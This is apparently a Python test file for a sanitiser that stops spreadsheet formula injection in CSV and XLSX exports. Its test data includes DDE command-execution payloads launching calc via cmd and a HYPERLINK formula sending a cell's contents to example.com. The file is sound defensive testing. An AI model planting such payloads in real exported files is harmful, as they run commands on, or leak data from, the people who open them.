"""`spreadsheet_safe`: a value a sender wrote is shown by a spreadsheet as text, never run
as a formula, whether it is written to CSV or to XLSX."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from services.common.boundary import spreadsheet_safe

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?x="&A1,"点击")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text(value: str) -> None:
    safe = spreadsheet_safe(value)
    assert safe == "'" + value
    assert safe[0] not in "=+-@\t\r"


@pytest.mark.parametrize(
    "value", ["", "吸尘器使用三天后无法启动", "13812345678", "a=b", "门店-王", "'quoted already"]
)
def test_ordinary_text_is_unchanged(value: str) -> None:
    assert spreadsheet_safe(value) == value


def test_written_to_xlsx_it_is_a_string_cell_not_a_formula() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([spreadsheet_safe(v) for v in FORMULAS])
    sheet.append(FORMULAS[:1])  # as sent: openpyxl would store a formula
    buffer = io.BytesIO()
    book.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert read is not None
    assert all(cell.data_type == "s" for cell in read[1])
    assert read["A2"].data_type == "f"


def test_written_to_csv_no_cell_starts_a_formula() -> None:
    out = io.StringIO()
    csv.writer(out).writerow([spreadsheet_safe(v) for v in FORMULAS])
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    assert row == ["'" + v for v in FORMULAS]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
